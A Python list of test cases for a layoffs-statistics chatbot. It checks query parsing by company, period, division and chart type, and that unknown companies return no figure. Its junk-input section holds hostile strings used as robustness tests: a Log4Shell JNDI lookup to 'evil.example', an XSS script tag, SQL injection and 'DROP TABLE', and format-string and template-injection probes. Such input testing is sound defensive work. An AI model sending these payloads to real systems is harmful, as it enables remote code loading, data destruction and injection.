    total("claim-amazon-27000-2023", "amazon cut 27,000 in 2023?", "Amazon", Y(2023), headline_has=("27,000",)),

    # -- companies we don't have: no figure, ever -----------------------------------------
    none("unk-nvidia-how-many", "how many did nvidia cut?", "nvidia"),
    none("unk-nvidia-job-cuts", "nvidia job cuts since 2023", "nvidia"),
    none("unk-verizon-2024", "verizon job cuts 2024", "verizon"),
    none("unk-verizon-let-go", "how many people did verizon let go", "verizon"),
    none("unk-walmart", "walmart job cuts", "walmart"),
    none("unk-walmart-2023", "walmart layoffs 2023", "walmart"),
    none("unk-tesla-sacked", "tesla sacked how many", "tesla"),
    none("unk-tesla-2024", "Tesla layoffs in 2024", "tesla"),
    none("unk-ibm-q1", "ibm layoffs q1 2024", "ibm"),
    none("unk-dell", "dell layoffs", "dell"),
    none("unk-hp", "how many did hp cut", "hp"),
    none("unk-cisco", "cisco job cuts last year", "cisco"),
    none("unk-apple", "how many did apple cut", "apple"),
    none("unk-netflix", "netflix layoffs", "netflix"),
    none("unk-spotify", "spotify layoffs since late 2022", "spotify"),
    none("unk-uber", "uber job cuts", "uber"),
    none("unk-lyft-2022", "lyft layoffs 2022", "lyft"),
    none("unk-shopify", "how many has shopify axed", "shopify"),
    none("unk-stripe", "stripe layoffs", "stripe"),
    none("unk-coinbase", "coinbase layoffs in 2022", "coinbase"),
    none("unk-robinhood", "robinhood let go how many", "robinhood"),
    none("unk-boeing", "boeing layoffs", "boeing"),
    none("unk-disney-2023", "disney job cuts 2023", "disney"),
    none("unk-ford", "how many did ford lay off", "ford"),
    none("unk-accenture", "accenture layoffs last 6 months", "accenture"),
    none("unk-infosys", "infosys layoffs", "infosys"),
    none("unk-bytedance", "bytedance job cuts", "bytedance"),
    none("unk-tiktok", "tiktok layoffs 2024", "tiktok"),
    none("unk-klarna", "klarna layoffs", "klarna"),
    none("unk-peloton", "peloton layoffs since 2022", "peloton"),
    none("unk-wayfair", "wayfair job cuts", "wayfair"),
    none("unk-docusign", "how many did docusign cut in 2024", "docusign"),
    none("unk-workday", "workday layoffs", "workday"),
    none("unk-adobe", "adobe layoffs this year", "adobe"),
    none("unk-goldman", "goldman sachs job cuts", "goldman sachs"),
    none("unk-wells-fargo", "wells fargo layoffs", "wells fargo"),
    none("unk-acme-corp", "layoffs at acme corp", "acme"),
    none("unk-capital-zorblax", "How many did Zorblax lay off?", "zorblax"),
    none("unk-at-nvidia-rank", "biggest layoffs at nvidia", "nvidia"),
    none("unk-nvidia-timeline", "nvidia layoff timeline", "nvidia"),
    none("unk-nvidia-latest", "latest nvidia layoffs", "nvidia"),
    none("unk-nvidia-percent", "what % did nvidia cut", "nvidia"),
    none("unk-three", "dell vs hp vs ibm", "dell", "hp", "ibm"),
    none("unk-two-2023", "walmart vs target layoffs 2023", "walmart"),
    none("unk-sap-chart", "chart of sap layoffs", "sap"),
    none("unk-claim", "nvidia cut 5000 in 2024 right?", "nvidia"),

    # -- comparisons naming a company we don't have ----------------------------------------
    partial("partial-intel-hp", "intel vs hp", ("Intel",), ("hp",)),
    partial("partial-amazon-walmart-2023", "amazon vs walmart 2023", ("Amazon",), ("walmart",), Y(2023)),
    partial("partial-meta-google-netflix", "meta, google and netflix layoffs", ("Meta", "Google"), ("netflix",)),
    partial("partial-msft-apple", "microsoft vs apple job cuts", ("Microsoft",), ("apple",)),
    partial("partial-nvidia-first", "nvidia vs intel", ("Intel",), ("nvidia",)),
    partial("partial-four-two-unknown", "amazon vs meta vs dell vs ibm", ("Amazon", "Meta"), ("dell", "ibm")),
    partial("partial-ticker-unknown", "msft vs nvda", ("Microsoft",), ("nvda",)),
    partial("partial-salesforce-workday", "salesforce or workday, who cut more", ("Salesforce",), ("workday",)),
    partial("partial-three-since", "amazon vs google vs tesla since 2024", ("Amazon", "Google"), ("tesla",), since(Y(2024))),

    # -- junk: never a figure, never a crash -------------------------------------------------
    none("junk-percent", "%"),
    none("junk-format-s-n", "%s%s%n"),
    none("junk-format-d", "%d%%"),
    none("junk-format-x", "%x %p %n"),
    none("junk-braces", "{}"),
    none("junk-brace-0", "{0}"),
    none("junk-mustache", "{{x}}"),
    none("junk-mustache-company", "{{company}}"),
    none("junk-dollar-brace", "${x}"),
    none("junk-jndi", "${jndi:ldap://evil.example/a}"),
    none("junk-erb", "<%= 7*7 %>"),
    none("junk-jinja", "{% for x in y %}"),
    none("junk-question-marks", "???"),
    none("junk-dots", "..."),
    none("junk-bang", "!"),
    none("junk-hash", "#"),
    none("junk-at", "@"),
    none("junk-ampersand", "&&&"),
    none("junk-star", "*"),
    none("junk-backslash", "\\"),
    none("junk-shrug", "¯\\_(ツ)_/¯"),
    none("junk-emoji-fire", "🔥🔥🔥"),
    none("junk-emoji-sad", "😢"),
    none("junk-slack-emoji", ":thumbsup:"),
    none("junk-script", "<script>alert(1)</script>"),
    none("junk-sql", "' OR 1=1 --"),
    none("junk-drop-table", "DROP TABLE events;"),
    none("junk-null", "null"),
    none("junk-undefined", "undefined"),
    none("junk-nan", "NaN"),
    none("junk-object", "[object Object]"),
    none("junk-keyboard", "asdfghjkl"),
    none("junk-lol", "lol"),
    none("junk-empty", ""),
    none("junk-spaces", "     "),
    none("junk-newlines", "\n\n\t"),
    none("junk-nul", "\x00"),
    none("junk-zero-width", "\u200b\u200b"),
    none("junk-rtl", "\u202e\u202d"),
    none("junk-long-dashes", "-" * 300),
    none("junk-pipes", "|||"),
    none("junk-backticks", "```"),
    none("junk-thanks", "thanks!"),
    none("junk-hi", "hi"),

    # -- fragments ------------------------------------------------------------------------
    total("frag-amazon-q", "amazon?", "Amazon"),
    total("frag-meta-2023", "meta 2023", "Meta", Y(2023)),
    total("frag-layoffs-msft", "layoffs msft", "Microsoft"),
    total("frag-intel-2024-q", "intel 2024?", "Intel", Y(2024)),
    total("frag-google-jobs", "google jobs cut", "Google"),
    total("frag-amazon-since", "amazon since 2025", "Amazon", since(Y(2025))),
    total("frag-salesforce-cuts", "salesforce cuts", "Salesforce"),
    total("frag-paypal-numbers", "paypal numbers", "PayPal"),
    total("frag-meta-late-22", "meta late 2022", "Meta", P("late", 2022)),
    market("frag-2023", "2023 layoffs", Y(2023)),
    market("frag-q1-2024", "q1 2024?", Q(1, 2024)),
    market("frag-last-year", "layoffs last year", LAST_YEAR),

    # -- divisions --------------------------------------------------------------------------
    total("div-aws-let-go", "how many did aws let go", "Amazon", division="AWS"),
    total("div-aws-2023", "aws job cuts 2023", "Amazon", Y(2023), division="AWS"),
    total("div-aws-2024", "aws layoffs 2024", "Amazon", Y(2024), division="AWS"),
    total("div-reality-labs-2026", "reality labs layoffs 2026", "Meta", ("2026-01-01", "2026-12-31"),
          division="Reality Labs"),
    total("div-xbox-2024", "xbox job cuts 2024", "Microsoft", Y(2024), division="Gaming"),
    total("div-activision", "activision layoffs", "Microsoft", division="Gaming"),
    total("div-twitch-2023", "twitch layoffs 2023", "Amazon", Y(2023), division="Twitch"),
    total("div-oculus", "oculus layoffs", "Meta", division="Reality Labs"),
    total("div-aws-since-2023", "aws axed how many since 2023", "Amazon", since(Y(2023)), division="AWS"),

    # -- the market as a whole -------------------------------------------------------------
    market("mkt-tech-2023", "how many tech layoffs in 2023", Y(2023)),
    market("mkt-jobs-lost-2022", "how many jobs were lost in 2022", Y(2022)),
    market("mkt-all-since-2025", "total layoffs since 2025", since(Y(2025))),
    market("mkt-this-year", "how many layoffs this year", THIS_YEAR),
    market("mkt-late-2022", "layoffs in late 2022", P("late", 2022)),
    market("mkt-since-h2-2024", "how many people were let go since h2 2024", since(H(2, 2024))),
    market("mkt-before-2023", "total job cuts before 2023", before(Y(2023))),
    market("mkt-india-2023", "layoffs in india 2023", Y(2023), country="India"),
    market("mkt-fintech-2024", "how many fintech job cuts in 2024", Y(2024), industry="Finance"),
    market("mkt-q1-2023-sacked", "how many were sacked in q1 2023", Q(1, 2023)),

    # -- the seed article's reader --------------------------------------------------------
    pace("pace-amazon-meta", "is amazon cutting faster than meta?", ("Amazon", "Meta")),
    pace("pace-msft-intel", "is microsoft laying off faster than intel", ("Microsoft", "Intel")),
    pace("pace-amazon-since", "how fast is amazon cutting since 2023", ("Amazon",), since(Y(2023))),
    pace("pace-meta-slowing", "is meta slowing down its layoffs?", ("Meta",)),
    pace("pace-google-speeding", "are google layoffs speeding up", ("Google",)),
    pace("pace-three", "who is cutting faster: amazon, microsoft or intel", ("Amazon", "Microsoft", "Intel")),
]

# -- a second batch: chat markup, $tickers, more periods, more names we don't have --------------
CASES += [
    # chat markup around a question
    total("chat-slack-mention", "<@U024BE7LH> how many did amazon cut in 2023", "Amazon", Y(2023)),
    total("chat-discord-mention", "<@!80351110224678912> meta layoffs", "Meta"),
    total("chat-bold", "*amazon* layoffs since 2025", "Amazon", since(Y(2025))),
    total("chat-code", "`msft` job cuts", "Microsoft"),
    total("chat-quote", "> how many did google cut in 2023", "Google", Y(2023)),
    total("chat-emoji-around", ":fire: intel layoffs 2024 :fire:", "Intel", Y(2024)),
    total("chat-dollar-ticker", "$AMZN layoffs", "Amazon"),
    total("chat-dollar-ticker-year", "$MSFT job cuts 2025", "Microsoft", Y(2025)),
    total("chat-dollar-meta", "$META layoffs since 2023", "Meta", since(Y(2023))),
    total("chat-dollar-goog", "$GOOGL layoffs 2023", "Google", Y(2023)),
    total("chat-hw-many", "hw many did amazon cut", "Amazon"),
    total("chat-u-know", "do u know how many meta let go in 2022", "Meta", Y(2022)),
    total("chat-pls", "pls how many jobs did intel axe last yr", "Intel", LAST_YEAR),
    total("chat-apostrophe-year", "meta layoffs in '23", "Meta", Y(2023)),
    total("chat-apostrophe-month", "amazon layoffs jan '23", "Amazon", M(1, 2023)),
    total("chat-x-corp", "x corp job cuts", "Twitter"),
    total("chat-google-alphabet", "google (alphabet) layoffs 2024", "Google", Y(2024)),
    total("chat-comma-year", "amazon, 2022, layoffs", "Amazon", Y(2022)),

    # more period shapes
    total("per-during-2023", "meta layoffs during 2023", "Meta", Y(2023)),
    total("per-throughout-2025", "microsoft job cuts throughout 2025", "Microsoft", Y(2025)),
    total("per-summer-of", "how many did intel cut in the summer of 2025", "Intel", P("summer", 2025)),
    total("per-since-start-last-year", "amazon layoffs since the start of last year", "Amazon", since(LAST_YEAR)),
    total("per-since-beginning-2024", "meta job cuts since the beginning of 2024", "Meta", since(Y(2024))),
    total("per-since-day", "google layoffs since jan 18 2023", "Google", ("2023-01-18", None)),
    total("per-past-year", "salesforce layoffs in the past year", "Salesforce", last_months(12)),
    total("per-last-18-months", "amazon layoffs last 18 months", "Amazon", last_months(18)),
    total("per-last-2-quarters", "microsoft layoffs in the last 2 quarters", "Microsoft", last_months(6)),
    total("per-between-seasons", "amazon layoffs between spring 2023 and fall 2024", "Amazon",
          span(P("spring", 2023), P("fall", 2024))),
    total("per-h2-to-h1", "meta job cuts from h2 2022 to h1 2023", "Meta", span(H(2, 2022), H(1, 2023))),
    total("per-end-to-mid", "amazon layoffs between the end of 2022 and mid 2023", "Amazon",
          span(P("end of", 2022), P("mid", 2023))),
    total("per-early-to-late", "intel layoffs from early 2024 to late 2025", "Intel", span(P("early", 2024), P("late", 2025))),
    total("per-q-to-month", "amazon cuts from q4 2025 to jan 2026", "Amazon", span(Q(4, 2025), M(1, 2026))),
    total("per-year-to-q", "microsoft layoffs from 2023 to q2 2025", "Microsoft", span(Y(2023), Q(2, 2025))),
    total("per-until-late", "meta layoffs until late 2022", "Meta", until(P("late", 2022))),
    total("per-thru-h1", "google job cuts thru h1 2024", "Google", until(H(1, 2024))),
    total("per-after-late-2022", "amazon job cuts after late 2022", "Amazon", after(P("late", 2022))),
    total("per-after-q3-2025", "amazon layoffs after q3 2025", "Amazon", after(Q(3, 2025))),
    total("per-before-fall-2025", "amazon layoffs before fall 2025", "Amazon", before(P("fall", 2025))),
    total("per-before-h2-2024", "paypal layoffs before h2 2024", "PayPal", before(H(2, 2024))),
    total("per-before-q1-2024", "block layoffs before q1 2024", "Block", before(Q(1, 2024))),
    total("per-prior-to-mid-2023", "twitter layoffs prior to mid 2023", "Twitter", before(P("mid", 2023))),
    total("per-since-q4-last-year", "amazon job cuts since q4 2025", "Amazon", since(Q(4, 2025))),
    total("per-this-month", "amazon layoffs this month", "Amazon", ("2026-02-01", TODAY_ISO)),
    total("per-ytd-let-go", "how many has amazon let go ytd", "Amazon", THIS_YEAR),
    market("per-mkt-since-late-2022", "how many people lost their jobs in tech since late 2022", since(P("late", 2022))),
    market("per-mkt-h1-2023", "overall layoffs in h1 2023", H(1, 2023)),
    market("per-mkt-between", "total layoffs between q2 2023 and q1 2024", span(Q(2, 2023), Q(1, 2024))),
    market("per-mkt-before-mid-2023", "how many jobs were cut before mid 2023", before(P("mid", 2023))),

    # industries and countries
    rank("ind-retail-rank", "biggest retail layoffs", industry="Retail"),
    rank("ind-hardware-rank-2024", "top hardware companies by layoffs 2024", Y(2024), industry="Hardware"),
    rank("ind-finance-since", "which finance companies cut the most since 2024", since(Y(2024)), industry="Finance"),
    rank("cty-us-rank-2025", "top companies in the united states by layoffs 2025", Y(2025), country="United States"),
    rank("cty-india-since", "which indian companies axed the most since 2023", since(Y(2023)), country="India"),
    market("cty-us-total-2025", "how many layoffs in the united states in 2025", Y(2025), country="United States"),
    market("ind-hardware-total", "how many hardware job cuts in 2024", Y(2024), industry="Hardware"),

    # more follow-ups
    total("fu2-three-turns-year", ("meta layoffs", "and google?", "and in 2023?"), "Google", Y(2023)),
    total("fu2-what-about-aws", ("amazon layoffs", "what about aws"), "Amazon", division="AWS"),
    total("fu2-ticker-then-year", ("MSFT layoffs", "2025?"), "Microsoft", Y(2025)),
    total("fu2-since-part", ("intel job cuts", "since mid 2024?"), "Intel", since(P("mid", 2024))),
    total("fu2-before-part", ("amazon layoffs", "before q2 2023?"), "Amazon", before(Q(2, 2023))),
    total("fu2-how-about-facebook", ("google layoffs 2022", "how about facebook"), "Meta", Y(2022)),
    rounds("fu2-list-2025", ("intel job cuts 2025", "list them"), "Intel", Y(2025)),
    rank("fu2-rank-india", ("who cut the most in 2023", "and in india?"), Y(2023), country="India"),
    compare("fu2-cmp-since", ("amazon vs meta", "since 2025?"), ("Amazon", "Meta"), since(Y(2025))),
    none("fu2-unknown-after-compare", ("amazon vs meta", "what about walmart"), "walmart"),
    none("fu2-unknown-after-rank", ("top 5 companies 2023", "and at nvidia?"), "nvidia"),
    none("fu2-junk-format", ("intel layoffs 2024", "%s%n")),
    none("fu2-junk-template", ("meta layoffs", "{{company}}")),
    none("fu2-question-marks", ("paypal layoffs", "???")),
    percent("fu2-share", ("intel layoffs 2024", "what share of staff is that"), "Intel", Y(2024)),

    # more stated figures
    total("claim2-amazon-14k-oct", "amazon cut 14k in oct 2025 right?", "Amazon", M(10, 2025), headline_has=("14,000",)),
    total("claim2-meta-21000", "meta cut 21000 in 2023?", "Meta", Y(2023), headline_has=("21,000",)),
    total("claim2-intel-15000", "intel laid off 15,000 in aug 2024, correct?", "Intel", M(8, 2024), headline_has=("15,000",)),
    total("claim2-salesforce-10k", "salesforce axed 10000 people in 2023 right", "Salesforce", Y(2023), headline_has=("10,000",)),

    # more names we don't have
    none("unk2-nvidia-capital", "Did Nvidia lay anyone off last year?", "nvidia"),
    none("unk2-verizon-question", "Has Verizon cut jobs?", "verizon"),
    none("unk2-walmart-any", "any layoffs at Walmart in 2025?", "walmart"),
    none("unk2-deloitte", "what about deloitte layoffs", "deloitte"),
    none("unk2-mckinsey", "mckinsey job cuts 2024", "mckinsey"),
    none("unk2-pwc", "pwc layoffs", "pwc"),
    none("unk2-jpmorgan", "jpmorgan layoffs since 2023", "jpmorgan"),
    none("unk2-bank-of-america", "bank of america job cuts", "bank of america"),
    none("unk2-hsbc", "hsbc let go how many", "hsbc"),
    none("unk2-siemens", "siemens layoffs 2024", "siemens"),
    none("unk2-samsung", "samsung job cuts", "samsung"),
    none("unk2-sony", "how many did sony lay off", "sony"),
    none("unk2-ubisoft", "ubisoft layoffs", "ubisoft"),
    none("unk2-roblox", "roblox layoffs", "roblox"),
    none("unk2-twilio", "twilio job cuts 2023", "twilio"),
    none("unk2-okta", "okta layoffs", "okta"),
    none("unk2-zendesk", "zendesk layoffs", "zendesk"),
    none("unk2-hubspot", "hubspot job cuts", "hubspot"),
    none("unk2-atlassian", "atlassian layoffs 2023", "atlassian"),
    none("unk2-dropbox", "dropbox layoffs", "dropbox"),
    none("unk2-gitlab", "gitlab layoffs", "gitlab"),
    none("unk2-reddit", "reddit job cuts", "reddit"),
    none("unk2-pinterest", "pinterest layoffs 2024", "pinterest"),
    none("unk2-instacart", "instacart layoffs", "instacart"),
    none("unk2-doordash", "doordash job cuts", "doordash"),
    none("unk2-zillow", "zillow layoffs", "zillow"),
    none("unk2-rivian", "rivian layoffs 2024", "rivian"),
    none("unk2-general-motors", "general motors job cuts", "general motors"),
    none("unk2-starbucks", "starbucks layoffs", "starbucks"),
    none("unk2-nike", "nike layoffs 2024", "nike"),
    none("unk2-dollar-ticker", "$NVDA layoffs", "nvda"),
    none("unk2-ticker-tsla-2024", "TSLA layoffs 2024", "tsla"),
    none("unk2-sentence-middle", "i read that Nvidia cut jobs, how many?", "nvidia"),
    none("unk2-rounds", "list all walmart layoff rounds", "walmart"),
    none("unk2-since-part", "verizon layoffs since late 2022", "verizon"),
    none("unk2-before-part", "ibm job cuts before h2 2024", "ibm"),
    none("unk2-planned", "is nvidia planning layoffs", "nvidia"),
    none("unk2-two-unknown", "nvidia vs amd", "nvidia", "amd"),
    partial("partial2-nvidia-intel-amd", "intel vs nvidia vs amd", ("Intel",), ("nvidia", "amd")),
    partial("partial2-google-samsung-2024", "google vs samsung 2024", ("Google",), ("samsung",), Y(2024)),
    partial("partial2-meta-snap-pinterest", "meta vs snap vs pinterest", ("Meta", "Snap"), ("pinterest",)),
    partial("partial2-ticker-cmp", "AMZN vs WMT", ("Amazon",), ("wmt",)),

    # the seed article's reader: published aggregates
    published("pub-layoffsfyi-since-2022", "according to layoffs.fyi, how many tech jobs since 2022?", since(Y(2022)),
              "layoffs.fyi"),
    published("pub-layoffsfyi-2023", "what does layoffs.fyi say for 2023", Y(2023), "layoffs.fyi"),
    published("pub-challenger-2023", "challenger's count of tech job cuts in 2023?", Y(2023), "Challenger"),

    # fragments that are not names, as follow-ups
    rounds("fu3-timeline", ("salesforce layoffs", "timeline?"), "Salesforce"),
    rounds("fu3-rounds", ("meta layoffs 2023", "rounds?"), "Meta", Y(2023)),
    rounds("fu3-details", ("intel job cuts", "details pls"), "Intel"),
    percent("fu3-how-about-percentages", ("amazon layoffs since 2025", "how about percentages"), "Amazon", since(Y(2025))),
    latest("fu3-latest", ("google layoffs", "latest?"), "Google"),
    planned("fu3-plans", ("amazon layoffs", "any plans?"), "Amazon"),

    # an ignored word that could have mattered is named
    replace(total("ignored-roughly", "roughly how many did amazon cut in 2023", "Amazon", Y(2023)), notes_has=("roughly",)),
]

# -- charts: the figure, and the chart of it ------------------------------------------------
CASES += [
    replace(total("chart-amazon-by-year", "chart amazon layoffs by year", "Amazon"), chart="company_over_time"),
    replace(total("chart-meta-since", "graph meta job cuts since 2022", "Meta", since(Y(2022))), chart="company_over_time"),
    replace(total("chart-msft-ticker", "plot msft layoffs", "Microsoft"), chart="company_over_time"),
    replace(total("chart-intel-2025", "intel layoffs 2025 chart", "Intel", Y(2025)), chart="company_over_time"),
    replace(total("chart-fu", ("amazon layoffs since 2023", "chart?"), "Amazon", since(Y(2023))), chart="company_over_time"),
    replace(compare("chart-compare", "chart amazon vs meta vs google", ("Amazon", "Meta", "Google")), chart="compare"),
    replace(rank("chart-rank", "chart the top 5 companies by layoffs in 2023", Y(2023), limit=5), chart="top_companies"),
    replace(market("chart-market", "chart all layoffs by month in 2023", Y(2023)), chart="all_over_time"),

]

# -- a third batch: look-alike names we don't have, numbers that are not years, more phrasings ---
CASES += [
    none("lookalike-intuit", "intuit layoffs 2024", "intuit"),
    none("lookalike-zoominfo", "zoominfo layoffs", "zoominfo"),
    none("lookalike-blockfi", "blockfi layoffs 2022", "blockfi"),
    none("lookalike-snapdeal", "snapdeal job cuts", "snapdeal"),
    none("lookalike-paypay", "paypay layoffs", "paypay"),
    none("lookalike-microstrategy", "microstrategy layoffs", "microstrategy"),
    none("lookalike-salesloft", "salesloft job cuts", "salesloft"),
    none("lookalike-metamask", "metamask layoffs", "metamask"),
    none("lookalike-intelsat", "intelsat layoffs", "intelsat"),
    partial("lookalike-cmp", "intel vs intuit", ("Intel",), ("intuit",)),
    typo("possessive-amazons", "amazons layoffs 2023", "Amazon", Y(2023)),
    typo("possessive-metas", "metas job cuts", "Meta"),
    typo("typo-byju", "byju layoffs", "Byju's"),
    typo("typo-swigy", "swigy layoffs", "Swiggy"),
    total("num-more-than", "did amazon cut more than 10000 in 2023?", "Amazon", Y(2023)),
    total("num-over-5k", "did meta lay off over 5k people in 2025", "Meta", Y(2025)),
    percent("num-percent-claim", "did intel cut 15% in 2024", "Intel", Y(2024)),
    total("div-aws-since-late", "aws layoffs since late 2022", "Amazon", since(P("late", 2022)), division="AWS"),
    total("div-reality-labs-possessive", "cuts at meta's reality labs", "Meta", division="Reality Labs"),
    total("div-gaming-since", "xbox job cuts since 2024", "Microsoft", since(Y(2024)), division="Gaming"),
    total("ticker-msft-since-q3", "how many has MSFT cut since Q3 2024?", "Microsoft", since(Q(3, 2024))),
    total("phr-early-2023-fire", "how many tech workers did salesforce fire in early 2023", "Salesforce", P("early", 2023)),
    total("phr-2022-and-2023", "how many did meta cut in 2022 and 2023", "Meta", span(Y(2022), Y(2023))),
    total("phr-double-punct", "amazon layoffs 2025?!", "Amazon", Y(2025)),
    total("phr-wonder", "i wonder how many people google let go last year", "Google", LAST_YEAR),
    total("phr-any-idea", "any idea how many paypal axed in 2024", "PayPal", Y(2024)),
    total("phr-whats-the-count", "whats the layoff count for intel", "Intel"),
    total("phr-numbers-for", "numbers for microsoft layoffs 2023 pls", "Microsoft", Y(2023)),
    compare("phr-and-two", "how many did amazon and meta cut in 2023", ("Amazon", "Meta"), Y(2023)),
    compare("phr-at-vs", "layoffs at meta vs google in 2023", ("Meta", "Google"), Y(2023)),
    compare("phr-or-three", "who let go more: intel, microsoft or amazon?", ("Intel", "Microsoft", "Amazon")),
    partial("partial3-and", "amazon and nvidia layoffs", ("Amazon",), ("nvidia",)),
    partial("partial3-capital", "Compare Meta with Netflix", ("Meta",), ("netflix",)),

    # fourth batch: more everyday shapes
    market("ev-how-bad-2023", "how bad were layoffs in 2023", Y(2023)),
    periods("ev-worse-than", "was 2023 worse than 2024?", None, Y(2023), Y(2024)),
    rank("ev-by-company-2024", "layoffs by company 2024", Y(2024)),
    rank("ev-breakdown-2023", "breakdown by company for 2023", Y(2023)),
    latest("ev-whos-laying-off", "who's laying off right now?"),
    total("ev-emoji-lead", "📉 amazon layoffs 2023", "Amazon", Y(2023)),
    none("ev-nvidia-alone", "nvidia", "nvidia"),
    none("ev-nvidia-capital-alone", "Nvidia?", "nvidia"),
    none("ev-fu-nvidia-fragment", ("amazon layoffs", "nvidia?"), "nvidia"),
    none("ev-fu-what-about-2024", ("meta layoffs", "what about Nvidia in 2024?"), "nvidia"),
    none("ev-how-many-at", "how many at nvidia", "nvidia"),
    none("ev-test", "test"),
    none("ev-ping", "ping"),
    none("ev-hello", "hello?"),
    none("ev-who-are-you", "who are you"),

]

# -- a fifth batch: word order, ISO dates, number words, long messages, follow-ups that change intent
CASES += [
    total("order-period-first", "in 2023, how many did amazon cut", "Amazon", Y(2023)),
    total("order-since-first", "since late 2022 how many has meta let go", "Meta", since(P("late", 2022))),
    total("order-year-first", "2023 amazon layoffs total", "Amazon", Y(2023)),
    total("order-the-of", "the amazon layoffs of 2023", "Amazon", Y(2023)),
    total("order-the-year-company", "the 2022 meta layoffs", "Meta", Y(2022)),
    total("noun-jobs-lost", "amazon jobs lost 2023", "Amazon", Y(2023)),
    total("noun-jobs-cut-at", "jobs cut at microsoft in 2025", "Microsoft", Y(2025)),
    total("words-six-months", "amazon layoffs past six months", "Amazon", last_months(6)),
    total("words-three-years", "meta layoffs in the last three years", "Meta", last_months(36)),
    total("words-twelve-months", "intel job cuts the last twelve months", "Intel", last_months(12)),
    total("month-sept", "salesforce layoffs sept 2025", "Salesforce", M(9, 2025)),
    total("iso-since", "amazon layoffs since 2025-01-01", "Amazon", ("2025-01-01", None)),
    total("iso-between", "meta layoffs between 2022-11-01 and 2023-03-31", "Meta", ("2022-11-01", "2023-03-31")),
    total("iso-before", "google layoffs before 2024-01-01", "Google", (None, "2023-12-31")),
    total("long-message", "hey bot, quick q — my cousin works at amazon and she said there were more layoffs, "
          "how many did amazon cut in 2025? thanks!", "Amazon", Y(2025)),
    total("long-message-meta", "so i was reading the news this morning and apparently meta is cutting again?? "
          "how many have they let go since 2025", "Meta", since(Y(2025))),
    compare("fu4-vs-meta", ("amazon layoffs 2023", "vs meta?"), ("Amazon", "Meta"), Y(2023)),
    compare("fu4-compare-with", ("intel layoffs", "compare with microsoft"), ("Intel", "Microsoft")),
    replace(rank("fu4-chart-it", ("top 5 companies by layoffs 2023", "chart it"), Y(2023), limit=5), chart="top_companies"),
    none("unk5-acme-inc", "Acme Inc layoffs", "acme"),
    none("unk5-globex", "Globex Corporation job cuts 2024", "globex"),
    none("unk5-target-capital", "How many did Target cut?", "target"),
    none("unk5-gap", "Gap layoffs 2023"),
    none("unk5-dollar-wmt", "$WMT job cuts", "wmt"),
    none("unk5-walmart-inc", "walmart inc. layoffs since 2024", "walmart"),

    # more timelines, latest rounds, plans and shares
    latest("latest2-amazon", "latest amazon layoffs", "Amazon"),
    latest("latest2-paypal", "newest paypal layoffs", "PayPal"),
    latest("latest2-salesforce", "most recent salesforce cuts", "Salesforce"),
    latest("latest2-google-undisclosed", "recent layoffs at google", "Google"),
    latest("latest2-msft-ticker", "latest MSFT layoffs?", "Microsoft"),
    Case("latest2-india", ("latest layoffs in india",), "latest", "latest", Scope((), None, None, None, None, "India")),
    planned("planned2-amazon-more", "is amazon planning more layoffs", "Amazon"),
    planned("planned2-oracle-coming", "any layoffs coming at oracle?", "Oracle"),
    planned("planned2-amazon-future", "future amazon job cuts", "Amazon"),
    rounds("rounds2-one-by-one", "amazon layoffs one by one", "Amazon"),
    rounds("rounds2-meta-range", "each meta layoff round 2022-2023", "Meta", span(Y(2022), Y(2023))),
    rounds("rounds2-paypal", "list paypal layoffs", "PayPal"),
    rounds("rounds2-msft-since", "all layoff rounds at microsoft since 2024", "Microsoft", since(Y(2024))),
    rounds("rounds2-aws-timeline", "aws layoff timeline", "Amazon", division="AWS"),
    percent("percent2-msft-2023", "what % of microsoft was cut in 2023", "Microsoft", Y(2023)),
    percent("percent2-meta", "meta layoffs as a percentage of staff", "Meta"),

]

# -- a sixth batch: month ranges, "first N months of", bare months, odd company names -------------
CASES += [
    total("mr-q1-q3", "microsoft layoffs q1-q3 2025", "Microsoft", span(Q(1, 2025), Q(3, 2025))),
    total("mr-jan-mar", "amazon layoffs jan-mar 2023", "Amazon", MM(1, 2023, 3, 2023)),
    total("mr-through", "amazon layoffs march through may 2023", "Amazon", MM(3, 2023, 5, 2023)),
    total("first-6-months", "amazon layoffs in the first 6 months of 2023", "Amazon", H(1, 2023)),
    total("last-6-months-of", "microsoft job cuts in the last six months of 2025", "Microsoft", H(2, 2025)),
    total("first-3-months", "paypal layoffs in the first three months of 2024", "PayPal", Q(1, 2024)),
    total("end-of-last-year", "amazon layoffs at the end of last year", "Amazon", Q(4, 2025)),
    total("past-2-yrs", "intel layoffs over the past 2 yrs", "Intel", last_months(24)),
    total("since-january", "amazon layoffs since january", "Amazon", ("2026-01-01", None)),
    total("since-march-bare", "meta layoffs since march", "Meta", ("2025-03-01", None)),
    total("in-december", "how many did meta cut in december", "Meta", M(12, 2025)),
    total("last-december", "amazon layoffs last december", "Amazon", M(12, 2025)),
    total("this-january", "meta layoffs this january", "Meta", M(1, 2026)),
    total("div-amazon-aws", "amazon aws layoffs", "Amazon", division="AWS"),
    total("div-msft-xbox", "microsoft xbox layoffs 2024", "Microsoft", Y(2024), division="Gaming"),
    total("div-meta-rl-since", "meta reality labs job cuts since 2025", "Meta", since(Y(2025)), division="Reality Labs"),
    none("odd-3m", "3m layoffs", "3m"),
    none("odd-23andme", "23andme layoffs 2024", "23andme"),
    none("odd-7-eleven", "7-eleven job cuts", "7-eleven"),
    none("odd-att", "at&t layoffs", "at&t"),
    none("odd-ernst-young", "ernst & young job cuts", "ernst & young"),
    none("odd-booking", "booking.com layoffs", "booking.com"),
    none("odd-monday", "monday.com job cuts 2023", "monday.com"),
    none("odd-t-mobile", "t-mobile layoffs", "t-mobile"),
    none("odd-hewlett", "hewlett-packard layoffs since 2023", "hewlett-packard"),
    partial("odd-cmp-att", "amazon vs at&t", ("Amazon",), ("at&t",)),

    # more words for layoffs
    total("syn-terminate", "how many did meta terminate in 2022", "Meta", Y(2022)),
    total("syn-workforce-reduction", "amazon workforce reduction 2023", "Amazon", Y(2023)),
    total("syn-restructuring", "microsoft restructuring job losses 2025", "Microsoft", Y(2025)),
    total("syn-made-redundant", "how many were made redundant at google", "Google"),
    total("syn-rif", "intel reduction in force 2024", "Intel", Y(2024)),
    total("syn-culled", "how many jobs has salesforce culled", "Salesforce"),
    total("syn-shed", "how many jobs did intel shed in 2024", "Intel", Y(2024)),
    total("syn-headcount-cuts", "paypal headcount cuts since 2023", "PayPal", since(Y(2023))),
    total("syn-job-losses", "job losses at amazon last year", "Amazon", LAST_YEAR),
    total("syn-laid-off", "how many got laid off at microsoft in jan 2023", "Microsoft", M(1, 2023)),
    none("syn-unknown-rif", "verizon reduction in force 2024", "verizon"),
    none("syn-unknown-restructuring", "walmart restructuring job losses", "walmart"),

